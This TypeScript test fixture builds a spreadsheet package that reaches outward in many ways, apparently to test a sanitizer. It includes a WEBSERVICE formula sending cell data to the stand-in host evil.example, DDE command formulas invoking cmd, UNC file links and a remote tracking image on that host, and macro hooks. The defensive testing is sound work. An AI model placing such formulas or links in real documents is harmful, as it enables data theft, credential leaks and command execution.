import { zipFile } from './zip-file.ts';

const MAIN = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const PACKAGE = 'http://schemas.openxmlformats.org/package/2006';
const SPREADSHEET = 'application/vnd.openxmlformats-officedocument.spreadsheetml';
const DRAWING = 'http://schemas.openxmlformats.org/drawingml/2006';
const X14 = 'http://schemas.microsoft.com/office/spreadsheetml/2009/9/main';
const EXCEL_MAIN = 'http://schemas.microsoft.com/office/excel/2006/main';

type Link = readonly [id: string, kind: string, target: string, outside?: 'outside'];

const relations = (links: readonly Link[]): string =>
  `<Relationships xmlns="${PACKAGE}/relationships">${links
    .map(
      ([id, kind, target, outside]) =>
        `<Relationship Id="${id}" Type="${kind.includes('/') ? kind : `${OFFICE}/${kind}`}" Target="${target}"${outside ? ' TargetMode="External"' : ''}/>`,
    )
    .join('')}</Relationships>`;

const typed = (path: string, type: string): string => `<Override PartName="/${path}" ContentType="${type}"/>`;

const text = (value: string): string => `t="str"><f>${value}</f><v>было</v></c>`;
const ROWS = [
  `<row r="1"><c r="A1"><f>SUM(B1:B2)</f><v>7</v></c><c r="B1"><v>3</v></c><c r="C1" ${text('_xlfn.WEBSERVICE("http://evil.example/?"&amp;A1)')}<c r="D1" ${text("cmd|'/c calc'!A0")}</row>`,
  `<row r="2"><c r="A2" cm="1"><f t="array" ref="A2:B2">[1]Лист1!A1:B1</f><v>5</v></c><c r="B2"><v>4</v></c><c r="C2"><f t="shared" si="0" ref="C2:C3">[1]Лист1!C1</f><v>11</v></c><c r="D2" ${text('HYPERLINK("http://evil.example/","сюда")')}</row>`,
  `<row r="3"><c r="C3"><f t="shared" si="0"/><v>12</v></c><c r="D3"><f>Наружу+1</f><v>13</v></c><c r="E3"><f>HYPERLINK("#Лист1!A1","туда")</f><v>0</v></c></row>`,
].join('');

const SHEET = `<worksheet xmlns="${MAIN}" xmlns:r="${OFFICE}"><sheetData>${ROWS}</sheetData><conditionalFormatting sqref="A1:A9"><cfRule type="expression" dxfId="0" priority="1"><formula>[1]Лист1!$A$1&gt;0</formula></cfRule><cfRule type="expression" dxfId="0" priority="2"><formula>A1&gt;5</formula></cfRule></conditionalFormatting><dataValidations count="2"><dataValidation type="list" sqref="B1:B9"><formula1>[1]Лист1!$A$1:$A$9</formula1></dataValidation><dataValidation type="list" sqref="C1"><formula1>$A$1:$A$3</formula1></dataValidation></dataValidations><hyperlinks><hyperlink ref="A1" r:id="rId1"/><hyperlink ref="A2" location="Лист1!B2"/><hyperlink ref="A3" r:id="rId2"/></hyperlinks><pageMargins left="1" right="1" top="1" bottom="1" header="0" footer="0"/><pageSetup orientation="landscape" r:id="rId3"/><drawing r:id="rId4"/><legacyDrawing r:id="rId5"/><oleObjects><oleObject progId="Package" shapeId="1025" r:id="rId6"/></oleObjects><controls><control shapeId="1026" r:id="rId7" name="x"/></controls><tableParts count="1"><tablePart r:id="rId8"/></tableParts><extLst><ext uri="{78C0D931-6437-407d-A8EE-F0AAD7539E65}" xmlns:x14="${X14}"><x14:conditionalFormattings><x14:conditionalFormatting xmlns:xm="${EXCEL_MAIN}"><x14:cfRule type="expression" priority="3" id="{00000000-0000-0000-0000-000000000001}"><xm:f>[1]Лист1!A1</xm:f></x14:cfRule><xm:sqref>B5</xm:sqref></x14:conditionalFormatting></x14:conditionalFormattings></ext></extLst></worksheet>`;

const ANCHOR =
  '<xdr:from><xdr:col>1</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>5</xdr:row><xdr:rowOff>0</xdr:rowOff></xdr:from><xdr:to><xdr:col>3</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>9</xdr:row><xdr:rowOff>0</xdr:rowOff></xdr:to>';
const SHAPE =
  '<xdr:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="900000" cy="900000"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></xdr:spPr>';
const picture = (id: number, blip: string, link = ''): string =>
  `<xdr:twoCellAnchor>${ANCHOR}<xdr:pic macro="[0]!Run"><xdr:nvPicPr><xdr:cNvPr id="${id}" name="Рисунок ${id}">${link}</xdr:cNvPr><xdr:cNvPicPr/></xdr:nvPicPr><xdr:blipFill><a:blip ${blip}/><a:stretch><a:fillRect/></a:stretch></xdr:blipFill>${SHAPE}</xdr:pic><xdr:clientData/></xdr:twoCellAnchor>`;
const CHART_FRAME = `<xdr:twoCellAnchor>${ANCHOR}<xdr:graphicFrame macro=""><xdr:nvGraphicFramePr><xdr:cNvPr id="9" name="Диаграмма"/><xdr:cNvGraphicFramePr/></xdr:nvGraphicFramePr><xdr:xfrm><a:off x="0" y="0"/><a:ext cx="0" cy="0"/></xdr:xfrm><a:graphic><a:graphicData uri="${DRAWING}/chart"><c:chart xmlns:c="${DRAWING}/chart" r:id="rId4"/></a:graphicData></a:graphic></xdr:graphicFrame><xdr:clientData/></xdr:twoCellAnchor>`;
const CONTROL = `<xdr:oneCellAnchor><xdr:from><xdr:col>1</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>5</xdr:row><xdr:rowOff>0</xdr:rowOff></xdr:from><xdr:ext cx="900000" cy="900000"/><xdr:sp macro="" textlink="[1]Лист1!A1"><xdr:nvSpPr><xdr:cNvPr id="10" name="Кнопка"><a:extLst><a:ext uri="{63B3BB69-23CF-44E3-9099-C40C66FF867C}"><a14:compatExt xmlns:a14="http://schemas.microsoft.com/office/drawing/2010/main" spid="_x0000_s1026"/></a:ext></a:extLst></xdr:cNvPr><xdr:cNvSpPr/></xdr:nvSpPr>${SHAPE}</xdr:sp><xdr:clientData/></xdr:oneCellAnchor>`;
const DRAWN = `<xdr:wsDr xmlns:xdr="${DRAWING}/spreadsheetDrawing" xmlns:a="${DRAWING}/main" xmlns:r="${OFFICE}">${picture(2, 'r:embed="rId1"', '<a:hlinkClick r:id="rId2"/>')}${picture(3, 'r:link="rId3"')}${CONTROL}${CHART_FRAME}</xdr:wsDr>`;
const CHART = `<c:chartSpace xmlns:c="${DRAWING}/chart" xmlns:r="${OFFICE}"><c:chart><c:plotArea><c:layout/><c:barChart><c:barDir val="col"/><c:grouping val="clustered"/><c:ser><c:idx val="0"/><c:order val="0"/><c:val><c:numRef><c:f>[1]Лист1!$A$1:$A$2</c:f><c:numCache><c:formatCode>General</c:formatCode><c:ptCount val="1"/><c:pt idx="0"><c:v>5</c:v></c:pt></c:numCache></c:numRef></c:val></c:ser><c:axId val="1"/><c:axId val="2"/></c:barChart><c:catAx><c:axId val="1"/><c:scaling/><c:axPos val="b"/><c:crossAx val="2"/></c:catAx><c:valAx><c:axId val="2"/><c:scaling/><c:axPos val="l"/><c:crossAx val="1"/></c:valAx></c:plotArea></c:chart><c:externalData r:id="rId1"/></c:chartSpace>`;
const NOTE =
  '<v:shape id="_x0000_s1027" type="#_x0000_t202" href="http://evil.example/"><x:ClientData ObjectType="Note"><x:Anchor>1, 15, 0, 2, 3, 31, 4, 1</x:Anchor><x:Row>0</x:Row><x:Column>1</x:Column></x:ClientData></v:shape>';
const BUTTON =
  '<v:shape id="_x0000_s1026" type="#_x0000_t201"><x:ClientData ObjectType="Button"><x:FmlaMacro>[0]!Run</x:FmlaMacro></x:ClientData></v:shape>';
const BOXES = `<xml xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:x="urn:schemas-microsoft-com:office:excel">${NOTE}${BUTTON}</xml>`;
const TABLE = `<table xmlns="${MAIN}" id="1" name="Table1" displayName="Table1" ref="B1:C3" tableType="queryTable" headerRowCount="0" totalsRowShown="0"><tableColumns count="2"><tableColumn id="1" name="a" queryTableFieldId="1"/><tableColumn id="2" name="b"><calculatedColumnFormula>[1]Лист1!C1</calculatedColumnFormula></tableColumn></tableColumns></table>`;

const PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
);

/** The parts of a workbook that reaches out of itself in every way there is; nothing in it works. */
const PARTS: readonly (readonly [name: string, data: string | Buffer])[] = [
  [
    '[Content_Types].xml',
    `<Types xmlns="${PACKAGE}/content-types"><Default Extension="xml" ContentType="application/xml"/><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="png" ContentType="image/png"/><Default Extension="bin" ContentType="application/octet-stream"/><Default Extension="vml" ContentType="application/vnd.openxmlformats-officedocument.vmlDrawing"/>${[
      typed('xl/workbook.xml', `${SPREADSHEET}.sheet.main+xml`),
      typed('xl/worksheets/sheet1.xml', `${SPREADSHEET}.worksheet+xml`),
      typed('xl/styles.xml', `${SPREADSHEET}.styles+xml`),
      typed('xl/comments1.xml', `${SPREADSHEET}.comments+xml`),
      typed('xl/drawings/drawing1.xml', 'application/vnd.openxmlformats-officedocument.drawing+xml'),
      typed('xl/charts/chart1.xml', 'application/vnd.openxmlformats-officedocument.drawingml.chart+xml'),
      typed('xl/tables/table1.xml', `${SPREADSHEET}.table+xml`),
      typed('xl/queryTables/queryTable1.xml', `${SPREADSHEET}.queryTable+xml`),
      typed('xl/externalLinks/externalLink1.xml', `${SPREADSHEET}.externalLink+xml`),
      typed('xl/externalLinks/externalLink2.xml', `${SPREADSHEET}.externalLink+xml`),
      typed('xl/connections.xml', `${SPREADSHEET}.connections+xml`),
      typed('xl/calcChain.xml', `${SPREADSHEET}.calcChain+xml`),
    ].join('')}</Types>`,
  ],
  [
    '_rels/.rels',
    relations([
      ['rId1', 'officeDocument', 'xl/workbook.xml'],
      ['rId2', 'http://schemas.microsoft.com/office/2007/relationships/ui/extensibility', 'customUI/customUI14.xml'],
      ['rId3', `${PACKAGE}/relationships/digital-signature/origin`, '_xmlsignatures/origin.xml'],
    ]),
  ],
  ['customUI/customUI14.xml', '<customUI onLoad="Run"/>'],
  ['_xmlsignatures/origin.xml', '<x/>'],
  [
    'xl/workbook.xml',
    `<workbook xmlns="${MAIN}" xmlns:r="${OFFICE}"><sheets><sheet name="Лист1" sheetId="1" r:id="rId1"/></sheets><externalReferences><externalReference r:id="rId3"/><externalReference r:id="rId4"/></externalReferences><definedNames><definedName name="Наружу">[1]Лист1!$A$1</definedName><definedName name="Ещё">Наружу*2</definedName><definedName name="Своё">Лист1!$A$1</definedName></definedNames></workbook>`,
  ],
  [
    'xl/_rels/workbook.xml.rels',
    relations([
      ['rId1', 'worksheet', 'worksheets/sheet1.xml'],
      ['rId2', 'styles', 'styles.xml'],
      ['rId3', 'externalLink', 'externalLinks/externalLink1.xml'],
      ['rId4', 'externalLink', 'externalLinks/externalLink2.xml'],
      ['rId5', 'connections', 'connections.xml'],
      ['rId6', 'calcChain', 'calcChain.xml'],
      ['rId7', 'customXml', '../customXml/item1.xml'],
    ]),
  ],
  ['xl/calcChain.xml', `<calcChain xmlns="${MAIN}"><c r="C1" i="1"/></calcChain>`],
  ['customXml/item1.xml', '<x/>'],
  ['xl/connections.xml', `<connections xmlns="${MAIN}"><connection id="1" name="c" type="1"/></connections>`],
  [
    'xl/styles.xml',
    `<styleSheet xmlns="${MAIN}"><fonts count="1"><font/></fonts><fills count="1"><fill><patternFill patternType="none"/></fill></fills><borders count="1"><border/></borders><cellStyleXfs count="1"><xf/></cellStyleXfs><cellXfs count="1"><xf/></cellXfs><dxfs count="1"><dxf/></dxfs></styleSheet>`,
  ],
  [
    'xl/externalLinks/externalLink1.xml',
    `<externalLink xmlns="${MAIN}"><externalBook xmlns:r="${OFFICE}" r:id="rId1"/></externalLink>`,
  ],
  [
    'xl/externalLinks/_rels/externalLink1.xml.rels',
    relations([['rId1', 'externalLinkPath', 'file:///\\\\evil.example\\share\\book.xlsx', 'outside']]),
  ],
  [
    'xl/externalLinks/externalLink2.xml',
    `<externalLink xmlns="${MAIN}"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>`,
  ],
  ['xl/worksheets/sheet1.xml', SHEET],
  [
    'xl/worksheets/_rels/sheet1.xml.rels',
    relations([
      ['rId1', 'hyperlink', 'https://evil.example/path', 'outside'],
      ['rId2', 'hyperlink', 'mailto:a@example.com', 'outside'],
      ['rId3', 'printerSettings', '../printerSettings/printerSettings1.bin'],
      ['rId4', 'drawing', '../drawings/drawing1.xml'],
      ['rId5', 'vmlDrawing', '../drawings/vmlDrawing1.vml'],
      ['rId6', 'oleObject', '../embeddings/oleObject1.bin'],
      ['rId7', 'control', '../activeX/activeX1.xml'],
      ['rId8', 'table', '../tables/table1.xml'],
      ['rId9', 'comments', '../comments1.xml'],
    ]),
  ],
  ['xl/printerSettings/printerSettings1.bin', 'x'],
  ['xl/embeddings/oleObject1.bin', 'MZ'],
  ['xl/activeX/activeX1.xml', '<x/>'],
  [
    'xl/comments1.xml',
    `<comments xmlns="${MAIN}"><authors><author>Я</author></authors><commentList><comment ref="B1" authorId="0"><text><t>моё</t></text></comment></commentList></comments>`,
  ],
  ['xl/drawings/vmlDrawing1.vml', BOXES],
  ['xl/tables/table1.xml', TABLE],
  ['xl/tables/_rels/table1.xml.rels', relations([['rId1', 'queryTable', '../queryTables/queryTable1.xml']])],
  ['xl/queryTables/queryTable1.xml', `<queryTable xmlns="${MAIN}" name="q" connectionId="1"/>`],
  ['xl/drawings/drawing1.xml', DRAWN],
  [
    'xl/drawings/_rels/drawing1.xml.rels',
    relations([
      ['rId1', 'image', '../media/image1.png'],
      ['rId2', 'hyperlink', 'http://evil.example/picture', 'outside'],
      ['rId3', 'image', 'http://evil.example/pixel.png', 'outside'],
      ['rId4', 'chart', '../charts/chart1.xml'],
    ]),
  ],
  ['xl/media/image1.png', PNG],
  ['xl/charts/chart1.xml', CHART],
  [
    'xl/charts/_rels/chart1.xml.rels',
    relations([['rId1', 'oleObject', 'file:///\\\\evil.example\\share\\book.xlsx', 'outside']]),
  ],
  ['nobody/refers/to/this.exe', 'MZ'],
];

export const outwardWorkbook = (): Buffer => zipFile(PARTS.map(([name, data]) => ({ name, data })));

/** The parts of it that a person who works with the workbook needs. */
export const NEEDED_PARTS = [
  '[Content_Types].xml',
  '_rels/.rels',
  'xl/_rels/workbook.xml.rels',
  'xl/charts/chart1.xml',
  'xl/charts/_rels/chart1.xml.rels',
  'xl/comments1.xml',
  'xl/drawings/_rels/drawing1.xml.rels',
  'xl/drawings/drawing1.xml',
  'xl/drawings/vmlDrawing1.vml',
  'xl/media/image1.png',
  'xl/styles.xml',
  'xl/tables/_rels/table1.xml.rels',
  'xl/tables/table1.xml',
  'xl/workbook.xml',
  'xl/worksheets/_rels/sheet2.xml.rels',
  'xl/worksheets/sheet1.xml',
];
